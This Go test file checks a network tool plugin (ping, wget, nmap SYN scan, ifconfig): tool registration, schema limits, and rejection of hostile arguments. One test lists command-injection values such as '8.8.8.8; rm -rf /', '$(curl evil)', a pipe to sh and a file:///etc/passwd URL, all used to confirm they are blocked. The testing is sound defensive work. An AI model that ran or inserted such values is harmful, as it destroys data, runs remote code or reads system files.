package network

import (
	"context"
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"opendiscovery/internal/plugin"
	"opendiscovery/internal/registry"
	"opendiscovery/internal/runtime"
)

func newFixture(t *testing.T) (*registry.Registry, *runtime.Runtime) {
	t.Helper()
	reg := registry.New()
	rt := runtime.New(reg, runtime.Options{})

	loader := plugin.NewLoader(t.TempDir(), reg, rt, nil, false, nil)
	loader.RegisterFactory(PluginID, Factory())
	require.NoError(t, loader.LoadBuiltin(context.Background(), PluginID, "test"))
	return reg, rt
}

func TestRegisteredTools(t *testing.T) {
	reg, _ := newFixture(t)

	for _, name := range []string{"ping", "wget", "nmap_tcp_syn_scan", "ifconfig"} {
		tool, err := reg.Lookup(name)
		require.NoError(t, err, name)
		assert.True(t, tool.Subprocess, "%s is subprocess-backed", name)
	}
}

func TestPingSchema(t *testing.T) {
	reg, _ := newFixture(t)
	tool, err := reg.Lookup("ping")
	require.NoError(t, err)

	wire := tool.Validator().WireSchema()
	assert.Equal(t, "object", wire["type"])
	assert.Equal(t, false, wire["additionalProperties"])
	assert.Equal(t, []string{"host"}, wire["required"])

	count := wire["properties"].(map[string]any)["count"].(map[string]any)
	assert.Equal(t, float64(1), count["minimum"])
	assert.Equal(t, float64(10), count["maximum"])
	assert.Equal(t, float64(4), count["default"])
}

func TestHostileInputsNeverReachArgv(t *testing.T) {
	_, rt := newFixture(t)

	tests := []struct {
		tool string
		args string
	}{
		{"ping", `{"host":"8.8.8.8; rm -rf /"}`},
		{"ping", `{"host":"$(curl evil)"}`},
		{"wget", `{"url":"file:///etc/passwd"}`},
		{"wget", `{"url":"https://e.com/| sh"}`},
		{"nmap_tcp_syn_scan", `{"target":"10.0.0.0/zz"}`},
		{"nmap_tcp_syn_scan", `{"target":"host&whoami"}`},
		{"ifconfig", `{"interface":"eth0;id"}`},
	}
	for _, tt := range tests {
		result := rt.Invoke(context.Background(), tt.tool, json.RawMessage(tt.args))
		assert.True(t, result.IsError, "%s with %s must be rejected", tt.tool, tt.args)
	}
}

func TestArgumentRangeEnforcement(t *testing.T) {
	_, rt := newFixture(t)

	result := rt.Invoke(context.Background(), "ping", json.RawMessage(`{"host":"h","count":100}`))
	assert.True(t, result.IsError)

	result = rt.Invoke(context.Background(), "nmap_tcp_syn_scan", json.RawMessage(`{"target":"10.0.0.1","ports":"80;90"}`))
	assert.True(t, result.IsError, "port list outside the allowed pattern")
}
